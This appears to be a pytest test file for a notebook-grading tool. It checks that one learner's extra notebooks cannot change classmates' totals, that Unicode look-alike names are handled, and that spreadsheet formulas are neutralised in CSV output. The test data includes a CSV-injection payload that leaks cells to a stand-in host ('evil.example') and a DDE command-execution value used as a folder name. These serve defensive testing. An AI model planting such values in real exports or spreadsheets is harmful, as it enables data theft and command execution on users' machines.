"""The class's figures belong to the class: what one learner hands in never changes anyone else's.

One grader call under bubblewrap grades two honest learners (exercise 1, right answers) beside
``mallory``, who hands in exercise 1 right, an older blank copy of it, ten blank copies of other
exercises (every other exercise once, exercise 2 twice) and a notebook that matches no key, and
beside a learner whose folder and answer are spreadsheet formulas. Before the fix, mallory's extra
notebooks raised the class maximum (honest learners 9/9 became 9/96) and the ``answer`` column
carried a live ``=HYPERLINK``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import nbformat
import pytest
from test_grading_attacks import write  # one way to write a learner's copy (tests/ is on sys.path)

from omaha_learn import cli
from omaha_learn.grading import grader
from omaha_learn.grading.class_summary import Assignment, summarise
from omaha_learn.grading.records import CSV_COLUMNS, QuestionRecord
from omaha_learn.grading.sandbox import _bwrap_works
from omaha_learn.grading.teacher_marks import write_gradebook
from omaha_learn.grading.text_safety import FORMULA_STARTS

ROOT = Path(__file__).resolve().parent.parent
KEYS = ROOT / "exercises" / "solutions"
COPIES = ROOT / "exercises"
EX1 = "01_reading_hands"
RIGHT = {"q1": 'answer_q1 = "4h 2c Tc 2d"', "q2": 'answer_q2 = "9d 9s"', "q3": 'answer_q3 = "full house"',
         "q4": 'answer_q4 = "high card"', "q5": 'answer_q5 = "three of a kind"', "q6": 'answer_q6 = "B"'}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Click")'
HOSTILE_NAME = "=cmd|' calc'!A0"

needs_bwrap = pytest.mark.skipif(not _bwrap_works(), reason="bubblewrap (bwrap) not available")


def _formula_like(cell: str) -> bool:
    import unicodedata

    first = cell.lstrip()[:1]
    return cell[:1] in FORMULA_STARTS or (bool(first) and unicodedata.normalize("NFKC", first) in FORMULA_STARTS)


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    if not _bwrap_works():
        pytest.skip("bubblewrap (bwrap) not available")
    tmp = tmp_path_factory.mktemp("class")
    hand = tmp / "handed_in"
    subs = [write(hand, "ann", RIGHT), write(hand, "bob", RIGHT)]
    subs.append(write(hand, HOSTILE_NAME, {**RIGHT, "q6": f"answer_q6 = {FORMULA!r}"}))
    mallory = write(hand, "mallory", RIGHT)
    old = mallory.parent / f"{EX1} (old).ipynb"
    shutil.copy(COPIES / f"{EX1}.ipynb", old)
    os.utime(old, (1_000_000_000, 1_000_000_000))             # older than her right copy: the latest counts
    subs += [mallory, old]
    for p in sorted(COPIES.glob("*.ipynb")):
        if p.stem != EX1:
            subs.append(mallory.parent / p.name)
            shutil.copy(p, subs[-1])
    subs.append(mallory.parent / "02_again.ipynb")              # the tenth blank copy: exercise 2 again
    shutil.copy(COPIES / "02_high_hands.ipynb", subs[-1])
    nokey = mallory.parent / "notes.ipynb"                      # matches no key
    nokey.write_text(json.dumps(nbformat.v4.new_notebook()))
    subs.append(nokey)
    out = {k: tmp / v for k, v in (("csv", "scores.csv"), ("book", "gradebook.csv"), ("report", "report.html"),
                                    ("feedback", "feedback"))}
    argv = ["grade", "--keys", str(KEYS), "--sandbox", "bwrap", "--jobs", "2", "--csv", str(out["csv"]),
            "--gradebook", str(out["book"]), "--report", str(out["report"]), "--feedback", str(out["feedback"]),
            *map(str, subs)]
    stdout, stderr = io.StringIO(), io.StringIO()
    records: list[QuestionRecord] = []
    real_grade = grader.grade

    def keep(*a: object, **k: object) -> list[QuestionRecord]:
        records.extend(real_grade(*a, **k))  # type: ignore[arg-type]
        return records

    mp = pytest.MonkeyPatch()
    mp.setattr(grader, "grade", keep)
    try:
        with redirect_stdout(stdout), redirect_stderr(stderr):
            status = cli.main(argv)
    finally:
        mp.undo()
    return {"status": status, "out": stdout.getvalue(), "err": stderr.getvalue(), "records": records, **out}


@needs_bwrap
def test_ten_blank_copies_in_one_folder_leave_honest_learners_at_full_marks(batch: dict[str, object]) -> None:
    out = str(batch["out"])
    lines = {line.split()[0]: line for line in out.splitlines() if line.startswith(("ann ", "bob ", "mallory "))}
    assert lines["ann"].split()[:2] == ["ann", "9/9"] and "needs a look" not in lines["ann"]
    assert lines["bob"].split()[:2] == ["bob", "9/9"] and "needs a look" not in lines["bob"]
    # mallory: her latest copy of exercise 1 counts; every other notebook is named, none counted
    assert lines["mallory"].split()[:2] == ["mallory", "9/9"]
    for name in ("02_high_hands: not counted", "11_position: not counted", "notes: no-key",
                 f"{EX1}: handed in twice"):
        assert name in lines["mallory"], lines["mallory"]
    assert "not counted for the class: 02_high_hands" in out and "the latest copy counts" in out
    with Path(str(batch["book"])).open(encoding="utf-8-sig", newline="") as fh:
        book = {r["student"]: r for r in csv.DictReader(fh)}
    assert list(next(iter(book.values()))) == ["student", EX1, "total", "maximum", "percent", "late deduction",
                                               "missing", "needs a look"]
    for who in ("ann", "bob"):
        assert (book[who][EX1], book[who]["total"], book[who]["maximum"], book[who]["percent"],
                book[who]["needs a look"]) == ("9", "9", "9", "100.0", "")
    assert "02_high_hands: not counted" in book["mallory"]["needs a look"]
    for who in ("ann", "bob"):
        page = (Path(str(batch["feedback"])) / f"{who}.html").read_text(encoding="utf-8")
        assert "Total: 9/9 points (100%)" in page and "Not handed in" not in page
    report = Path(str(batch["report"])).read_text(encoding="utf-8")
    assert "Not counted for anyone" in report and "02_high_hands" in report and "the latest copy counts" in report
    assert batch["status"] == 1   # extra notebooks need a look


@needs_bwrap
def test_the_csv_says_which_rows_count(batch: dict[str, object]) -> None:
    with Path(str(batch["csv"])).open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    mine = {(Path(r["exercise"]).name, r["counts"].split(":")[0]) for r in rows if r["student"] == "mallory"}
    assert (EX1, "yes") in mine and (EX1, "no") in mine and ("02_high_hands", "no") in mine
    assert {r["counts"] for r in rows if r["student"] in ("ann", "bob")} == {"yes"}
    old = [r for r in rows if r["student"] == "mallory" and "(old)" in json.dumps(r)]
    assert old == [] or all(r["counts"].startswith("no: another copy counts") for r in old)


@needs_bwrap
def test_a_formula_in_an_answer_or_a_name_never_reaches_the_csv_live(batch: dict[str, object]) -> None:
    """Every column read back: no cell a learner shaped starts like a formula (the answer column included)."""
    with Path(str(batch["csv"])).open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    hostile = [r for r in rows if HOSTILE_NAME in r["student"]]
    assert hostile and all(r["student"] == "'" + HOSTILE_NAME for r in hostile)
    q6 = next(r for r in hostile if r["question"] == "q6")
    assert q6["status"] == "unreadable-answer" and q6["answer"] == "'" + FORMULA
    for row in rows:
        for column, cell in row.items():
            assert not _formula_like(cell) or (column, cell) == ("question", "-"), (column, cell)
    with Path(str(batch["book"])).open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            assert not any(_formula_like(c) for c in row), row


def test_a_csv_from_hostile_values_in_every_column_reads_back_as_text(tmp_path: Path) -> None:
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", " =1",
              "\u3000=1", "﹢1"]
    recs = []
    for i, bad in enumerate(starts):
        recs.append(QuestionRecord(bad, bad, bad, 0, 1, "graded", feedback=bad, answer=bad, rule=bad,
                                   submission=bad, text=bad, override=bad, points_before=1.0 if i % 2 else None))
    path = tmp_path / "scores.csv"
    grader.write_csv(recs, path)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(starts) and tuple(rows[0]) == CSV_COLUMNS
    for row in rows:
        for column, cell in row.items():
            assert not _formula_like(cell), (column, cell)
        assert row["answer"].startswith("'") and row["student"].startswith("'") and row["feedback"].startswith("'")
    write_gradebook(recs, tmp_path / "book.csv")
    with (tmp_path / "book.csv").open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            assert not any(_formula_like(c) for c in row), row


# ----------------------------------------------------------------- from records, no sandbox

def _rec(student: str, ex: str, pts: int, sub: str, mtime: float | None = None, mx: int = 2) -> QuestionRecord:
    return QuestionRecord(student, ex, "q1", pts, mx, "graded", submission=sub, mtime=mtime)


def test_copies_latest_by_time_then_by_name_or_best() -> None:
    recs = [_rec("ann", EX1, 2, "a/ann/01.ipynb", 10.0), _rec("ann", EX1, 0, "a/ann/01 (1).ipynb", 20.0),
            _rec("bob", EX1, 0, "a/bob/01.ipynb", 5.0), _rec("bob", EX1, 2, "a/bob/01 (1).ipynb", 5.0)]
    latest = {t.student: (t.points, t.exercises[EX1].submission) for t in summarise(recs).students}
    assert latest == {"ann": (0, "a/ann/01 (1).ipynb"), "bob": (2, "a/bob/01 (1).ipynb")}  # equal times: name order
    best = summarise(recs, assignment=Assignment(choose="best"))
    assert {t.student: t.points for t in best.students} == {"ann": 2, "bob": 2}
    assert "best copy counts" in best.assignment.rule
    flagged = {(f.student, f.statuses) for f in best.flagged}
    assert ("ann", ("handed in twice",)) in flagged


def test_named_exercises_count_even_when_nobody_handed_one_in() -> None:
    recs = [_rec("ann", EX1, 2, "a/ann/01.ipynb"), _rec("ann", "05_side_pots", 3, "a/ann/05.ipynb", mx=3)]
    s = summarise(recs, assignment=Assignment((EX1, "03_lows"), {EX1: 2, "03_lows": 7}))
    t = s.students[0]
    assert s.exercises == [EX1, "03_lows"] and (t.points, t.max_points) == (2, 9) and t.missing == ["03_lows"]
    assert s.not_counted[("ann", "05_side_pots", "a/ann/05.ipynb")].startswith("05_side_pots is not one of")
    assert s.extra_exercises == ["05_side_pots"]


def test_an_exercise_counts_for_the_class_only_when_more_than_half_handed_it_in() -> None:
    recs = [_rec(s, EX1, 2, f"a/{s}/01.ipynb") for s in ("ann", "bob", "cy")]
    recs += [_rec("ann", "03_lows", 7, "a/ann/03.ipynb", mx=7), _rec("bob", "03_lows", 7, "a/bob/03.ipynb", mx=7),
             _rec("cy", "05_side_pots", 3, "a/cy/05.ipynb", mx=3)]
    s = summarise(recs)
    assert s.exercises == [EX1, "03_lows"] and s.extra_exercises == ["05_side_pots"]
    assert {t.student: (t.points, t.max_points) for t in s.students} == {"ann": (9, 9), "bob": (9, 9),
                                                                           "cy": (2, 9)}


def test_cli_exercises_option_names_the_graded_exercises(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    recs = [_rec("ann", EX1, 1, "a/ann/01.ipynb", mx=9), _rec("bob", EX1, 9, "a/bob/01.ipynb", mx=9),
            _rec("bob", "02_high_hands", 0, "a/bob/02.ipynb", mx=5)]
    monkeypatch.setattr(grader, "grade", lambda *a, **k: list(recs))
    sub = tmp_path / "x.ipynb"
    sub.write_text("{}")
    book = tmp_path / "book.csv"
    assert cli.main(["grade", "--sandbox", "none", "--keys", str(KEYS), "--exercises", "01,lows",
                     "--gradebook", str(book), str(sub)]) == 1
    out = capsys.readouterr().out
    lows = grader.load_key(KEYS / "03_lows.ipynb").max_points
    bob = next(line for line in out.splitlines() if line.startswith("bob "))
    assert bob.split()[1] == f"9/{9 + lows}" and "not handed in: 03_lows" in bob and "02_high_hands: not counted" in bob
    assert cli.main(["grade", "--sandbox", "none", "--keys", str(KEYS), "--exercises", "42", str(sub)]) == 2
    assert "--exercises: '42' matches no key" in capsys.readouterr().err


def test_honest_totals_never_move_with_another_learners_extra_notebooks() -> None:
    honest = [_rec(s, EX1, 2, f"a/{s}/01.ipynb") for s in ("ann", "bob")]
    extra = [_rec("mallory", EX1, 2, "a/m/01.ipynb")]
    extra += [_rec("mallory", f"{n:02d}_x", 0, f"a/m/{n:02d}.ipynb", mx=9) for n in range(2, 12)]
    s = summarise(honest + extra)
    assert {t.student: (t.points, t.max_points) for t in s.students} == {"ann": (2, 2), "bob": (2, 2),
                                                                           "mallory": (2, 2)}


# ----------------------------------------------------------------------------- names

NFC_JOSE, NFD_JOSE = "Jos\u00e9", "Jose\u0301"


def test_a_folder_of_63_bold_a_gets_its_page_instead_of_file_name_too_long(
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long_name = "\U0001d400" * 63            # 252 bytes in UTF-8: a valid folder name
    recs = [_rec(long_name, EX1, 2, f"a/{long_name}/01.ipynb"), _rec("ann", EX1, 2, "a/ann/01.ipynb"),
            _rec(long_name + "B", EX1, 0, f"a/{long_name}B/01.ipynb")]
    monkeypatch.setattr(grader, "grade", lambda *a, **k: list(recs))
    sub = tmp_path / "x.ipynb"
    sub.write_text("{}")
    fb = tmp_path / "fb"
    assert cli.main(["grade", "--sandbox", "none", "--keys", str(KEYS), "--feedback", str(fb), str(sub)]) in (0, 1)
    assert "wrote 3 feedback files" in capsys.readouterr().out
    names = sorted(p.name for p in fb.iterdir())
    assert len(names) == 3 and all(len(n.encode()) <= 205 for n in names)
    pages = {p.read_text(encoding="utf-8").count("2/2 points") for p in fb.iterdir()}
    assert pages == {0, 1}   # the two long names that start alike keep their own pages


def test_jose_in_nfd_and_nfc_are_two_learners_flagged_with_their_own_pages(tmp_path: Path) -> None:
    recs = [_rec(NFC_JOSE, EX1, 2, f"a/{NFC_JOSE}/01.ipynb"), _rec(NFD_JOSE, EX1, 0, f"a/{NFD_JOSE}/01.ipynb"),
            _rec("ann", EX1, 2, "a/ann/01.ipynb")]
    s = summarise(recs)
    assert {t.student: t.points for t in s.students} == {NFC_JOSE: 2, NFD_JOSE: 0, "ann": 2}   # never merged
    alike = {f.student for f in s.flagged if f.statuses == ("looks like another learner",)}
    assert alike == {NFC_JOSE, NFD_JOSE}
    assert grader.needs_a_look(recs)
    for order in (recs, recs[::-1]):    # deterministic, whatever the order: the NFC name claims José.html
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        paths = {p.name: p.read_text(encoding="utf-8") for p in write_feedback_(order, folder)}
        assert set(paths) == {"José.html", "José-2.html", "ann.html"}
        assert "Total: 2/2" in paths["José.html"] and "Total: 0/2" in paths["José-2.html"]


def write_feedback_(recs: list[QuestionRecord], folder: Path) -> list[Path]:
    from omaha_learn.grading.feedback import write_feedback

    return write_feedback(recs, folder)


def test_an_override_typed_in_nfc_matches_a_folder_in_nfd_and_refuses_when_two_match(tmp_path: Path) -> None:
    from omaha_learn.errors import ReportError
    from omaha_learn.grading.teacher_marks import apply_overrides, read_overrides

    marks = tmp_path / "marks.csv"
    marks.write_text(f"student,exercise,question,points,comment\n{NFC_JOSE},{EX1},q1,1,partly\n", encoding="utf-8")
    got, notes = apply_overrides([_rec(NFD_JOSE, EX1, 0, "a/x/01.ipynb")], read_overrides(marks))
    assert (got[0].points, got[0].override, notes) == (1, "partly", [])
    both = [_rec(NFD_JOSE, EX1, 0, "a/x/01.ipynb"), _rec(NFC_JOSE, EX1, 0, "a/y/01.ipynb")]
    got, _ = apply_overrides(both, read_overrides(marks))    # the exact name wins
    assert {r.student: r.points for r in got} == {NFD_JOSE: 0, NFC_JOSE: 1}
    # Åsa three ways: the Angstrom sign and A + ring are two learners; "Åsa" typed in NFC matches both: refused
    angstrom, combining, typed = "\u212bsa", "A\u030asa", "\u00c5sa"
    marks.write_text(f"student,exercise,question,points,comment\n{typed},{EX1},q1,1,x\n", encoding="utf-8")
    two = [_rec(angstrom, EX1, 0, "a/x/01.ipynb"), _rec(combining, EX1, 0, "a/y/01.ipynb")]
    with pytest.raises(ReportError, match="line 2: .* matches 2 learners whose names look alike"):
        apply_overrides(two, read_overrides(marks))


def test_the_gradebook_writes_names_in_nfc_and_flags_look_alikes(tmp_path: Path) -> None:
    recs = [_rec(NFD_JOSE, EX1, 2, "a/x/01.ipynb"), _rec("ann", EX1, 2, "a/ann/01.ipynb")]
    write_gradebook(recs, tmp_path / "b.csv")
    with (tmp_path / "b.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["student"]: r for r in csv.DictReader(fh)}
    assert NFC_JOSE in rows and NFD_JOSE not in rows
    both = [_rec(NFD_JOSE, EX1, 2, "a/x/01.ipynb"), _rec(NFC_JOSE, EX1, 0, "a/y/01.ipynb")]
    write_gradebook(both, tmp_path / "c.csv")
    with (tmp_path / "c.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows2 = list(csv.DictReader(fh))
    assert len(rows2) == 2 and all("looks like another learner" in r["needs a look"] for r in rows2)
